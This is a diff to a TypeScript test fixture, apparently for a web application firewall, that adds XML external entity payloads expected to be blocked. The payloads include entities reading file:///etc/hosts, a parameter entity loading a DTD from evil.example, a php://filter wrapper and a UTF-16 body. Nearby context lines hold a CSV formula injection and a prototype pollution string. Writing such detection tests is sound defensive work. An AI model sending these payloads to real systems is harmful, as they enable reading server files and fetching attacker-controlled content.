@@ -1,7 +1,7 @@
 // Attacks that stand in values: what is expected to be blocked at paranoia level 1, and under which tag.
 
 import type { ExchangeRecord } from '../../src/model/exchange.ts';
-import { field, form, get, json, query, text, upload } from './requests.ts';
+import { field, form, get, json, query, request, text, upload } from './requests.ts';
 
 export interface Attack {
   readonly name: string;
@@ -361,6 +361,31 @@ const languages = [
   { name: 'attack-xxe, field', tag: 'attack-xxe', record: field('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>', 'xml') },
   { name: 'attack-xxe, other type', tag: 'attack-xxe', record: text('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><r/>', 'text/plain') },
   { name: 'attack-xxe, expansion', tag: 'attack-xxe', record: field('<!ENTITY b "&a;&a;&a;&a;">', 'xml') },
+  ...[
+    ['external entity', '[<!ENTITY x SYSTEM "file:///etc/hosts">]'],
+    ['external entity, public', '[<!ENTITY x PUBLIC "-//A//B" "http://10.0.0.1/a">]'],
+    ['external parameter entity', '[<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]'],
+    ['external entity from a parameter entity', '[<!ENTITY % p "<!ENTITY x SYSTEM \'file:///etc/hosts\'>"> %p;]'],
+    ['external entity, declared by numbers', '[<!ENTITY % p "<!ENTITY &#37; x SYSTEM \'file:///etc/hosts\'>"> %p;]'],
+    ['external entity behind many', `[${'<!ENTITY a "b">'.repeat(200)}<!ENTITY x SYSTEM "file:///etc/hosts">]`],
+    ['entity that is not parsed', '[<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file:///etc/hosts" NDATA n>]'],
+    ['DTD in a file', 'SYSTEM "file:///usr/share/xml/a.dtd"'],
+    ['DTD of a wrapper', 'SYSTEM "php://filter/read=convert.base64-encode/resource=index"'],
+  ].map(([name, dtd]) => ({
+    name: `attack-xxe, XML body, ${name}`,
+    tag: 'attack-xxe',
+    record: text(`<?xml version="1.0"?><!DOCTYPE r ${dtd}><r>a</r>`, 'application/xml'),
+  })),
+  {
+    name: 'attack-xxe, XML body in UTF-16',
+    tag: 'attack-xxe',
+    record: request(
+      'POST',
+      '/api/v1/import',
+      { 'Content-Type': 'application/xml' },
+      `\xff\xfe${[...'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>'].map((char) => `${char}\0`).join('')}`,
+    ),
+  },
   { name: 'attack-xxe, XInclude', tag: 'attack-xxe', record: field('<xi:include parse="text" href="file:///etc/hosts"/>', 'xml') },
   { name: 'attack-injection-node, prototype in text', tag: 'attack-injection-node', record: query('{"a":{"__proto__":{"b":1}}}') },
   { name: 'attack-csv, formula', tag: 'attack-csv', record: form({ name: "=cmd|'/C calc'!A0" }) },
